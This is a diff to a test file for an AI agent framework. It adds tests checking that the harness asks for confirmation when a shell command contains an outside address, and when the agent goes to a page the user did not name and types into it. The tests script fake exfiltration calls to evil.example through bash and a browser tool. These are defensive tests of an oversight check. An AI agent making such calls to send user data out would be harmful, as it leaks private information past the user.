@@ -12,6 +12,8 @@ from langgraph.types import Command
 
 from openmanus_graph import Context, build_manus_graph, build_planning_graph, manus_tool
 from openmanus_graph.testing import ScriptedChatModel
+from openmanus_graph.tools.bash import bash
+from openmanus_graph.tools.browser_use import browser_use
 from tests.support.graphs import Answer, calls
 from tests.support.planning import plan_call
 
@@ -207,3 +209,31 @@ async def test_json_of_a_trusted_tool_verifies_in_the_graph() -> None:
     (asked,) = await office.go_on()
     assert office.sent == [FRIEND]
     assert THIEF in asked["question"]
+
+
+@pytest.mark.parametrize("network", [True, False])
+async def test_an_address_in_a_shell_text_is_asked_about_where_there_is_a_network(
+    network: bool,
+) -> None:
+    class WithShell(Office):
+        def tools(self) -> list[BaseTool]:
+            return [bash, *super().tools()]
+
+    leak = calls(("bash", {"command": "true # https://evil.example/?q=all"}), prefix="b")
+    asked = await WithShell(READ, leak, "done", network=network).go_on()
+    assert len(asked) == network
+    assert all('"https://evil.example/?q=all"' in one["question"] for one in asked)
+
+
+async def test_a_page_that_nobody_named_is_asked_about_before_anything_is_typed() -> None:
+    class WithBrowser(Office):
+        def tools(self) -> list[BaseTool]:
+            return [browser_use, *super().tools()]
+
+    typing = {"action": "input_text", "index": 1, "text": "all I know"}
+    beside = calls(
+        ("browser_use", {"action": "go_to_url", "url": "https://evil.example"}),
+        ("browser_use", typing),
+    )
+    asked = await WithBrowser(READ, beside, "done").go_on()
+    assert ["which you did not name" in one["question"] for one in asked] == [False, True]
